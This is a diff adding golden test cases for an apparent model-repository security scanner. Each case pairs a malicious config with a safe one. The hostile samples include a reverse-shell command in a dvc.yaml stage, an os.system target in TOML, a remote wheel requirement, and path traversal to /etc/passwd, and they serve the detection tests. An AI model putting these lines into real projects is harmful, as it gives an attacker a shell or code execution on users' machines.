@@ -75,6 +75,78 @@ GOLDENS = [
         "adapter_config.json",
     ),
     _json(
+        "import-by-name",
+        {"peft_type": "LORA", "megatron_config": {"a": 1}, "megatron_core": "some_project.core"},
+        {"peft_type": "LORA", "megatron_config": {"a": 1}, "megatron_core": "megatron.core"},
+        "peft, megatron",
+        "adapter_config.json",
+    ),
+    _json(
+        "remote-code-elsewhere",
+        {"model_type": "llama", "_attn_implementation": "somebody/kernel:attend"},
+        {"model_type": "llama", "_attn_implementation": "kernels-community/flash-attn"},
+        "kernels",
+    ),
+    Golden(
+        "embedded.native-library",
+        "genai_config.json",
+        lambda: json.dumps({"model": {"session_options": {"custom_ops_library": "./operators.so"}}}).encode(),
+        lambda: json.dumps({"model": {"provider_options": [{"QNN": {"backend_path": "QnnHtp.dll"}}]}}).encode(),
+        "in settings",
+        techniques=("F10",),
+    ),
+    *(
+        Golden(
+            rule,
+            "config.pbtxt",
+            lambda line=line: f'name: "model"\n{line}\n'.encode(),
+            lambda: b'name: "model"\nbackend: "onnxruntime"\nmax_batch_size: 8\n',
+            case,
+            techniques=("F10",),
+        )
+        for rule, case, line in (
+            ("embedded.native-library", "server", 'model_operations { op_library_filename: "/tmp/operators.so" }'),
+            ("config.path-outside", "server, backend", 'backend: "../../tmp/backend"'),
+            (
+                "config.path-outside",
+                "server, environment",
+                'parameters: { key: "EXECUTION_ENV_PATH", value: { string_value: "http://198.51.100.7/e.tar.gz" } }',
+            ),
+        )
+    ),
+    Golden(
+        "config.target-dangerous",
+        "train.toml",
+        lambda: b'[model]\n_target_ = "os.system"\ncommand = "echo hi"\n',
+        lambda: b'[model]\n_target_ = "torch.nn.Linear"\nin_features = 2\n',
+        "TOML",
+        techniques=("F10",),
+    ),
+    Golden(
+        "script.reverse-shell",
+        "dvc.yaml",
+        lambda: b"stages:\n  train:\n    cmd: bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n",
+        lambda: b"stages:\n  train:\n    cmd: python train.py > /dev/null\n",
+        "in settings",
+        techniques=("C16",),
+    ),
+    Golden(
+        "requirements.source",
+        "pyproject.toml",
+        lambda: b'[build-system]\nrequires = ["setuptools", "tool @ http://198.51.100.7/tool.whl"]\n',
+        lambda: b'[project]\nurls = { Home = "http://example.org/" }\nauthors = [{ email = "a@example.org" }]\n',
+        "project",
+        techniques=("F10",),
+    ),
+    Golden(
+        "config.path-outside",
+        "README.md",
+        lambda: b"---\nconfigs:\n- data_files:\n  - split: train\n    path: ../../../etc/passwd\n---\n# Data\n",
+        lambda: b"---\nconfigs:\n- data_files:\n  - split: train\n    path: data/*.parquet\n---\n# Data\n",
+        "data of a card",
+        techniques=("F10",),
+    ),
+    _json(
         "path-outside",
         {"weight_map": {"layer": "../../other/model.bin"}},
         {"weight_map": {"layer": "model-00001-of-00002.safetensors"}},
